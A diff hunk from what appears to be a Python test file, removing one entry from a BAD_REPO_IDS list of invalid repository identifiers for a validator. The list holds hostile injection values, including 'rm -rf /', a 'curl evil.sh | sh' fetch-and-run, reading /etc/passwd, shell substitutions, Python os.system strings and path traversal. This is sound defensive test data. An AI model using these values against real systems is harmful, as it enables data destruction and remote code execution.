@@ -406,7 +406,7 @@ BAD_REPO_IDS = [
     "bad repo; rm -rf /", "org/m; rm -rf ~", "org/m && curl evil.sh | sh", "org/m | cat /etc/passwd", "$(touch /tmp/pwned)",
     "`touch /tmp/pwned`", "org/${HOME}", "org/m > /tmp/out", "org/m\nsecond-line", "org/m\r", "org/m\t", " org/m", "org/m ",
     "__import__('os').system('x')", "org/m');import os;os.system('x')#", 'org/m"', "org/m'", "{org}/{m}", "org/m#frag",
-    "org/m?x=1", "org/m%2F..", "org/../../etc", "org/..", "org/.", "org//m", "org/m/extra", "org/m/",
+    "org/m?x=1", "org/m%2F..", "org/../../etc", "org/..", "org/.", "org//m", "org/m/extra",
     "org/m--x", "org/-m", "-org/m", "org/m.git", "org/m.", "org/" + "m" * 97, "o" * 97 + "/m", "", "org/m\x00", "org/m\x1b[2J",
     "org/m\u202egnp.exe", "org/ｍ", "org/m*", "org/m[0]", "org\\m", "org/m~", "org/m@main", "org/m:latest", "http://evil/m",
     "org/m\n", "org/m\n\n", "gpt2\n",
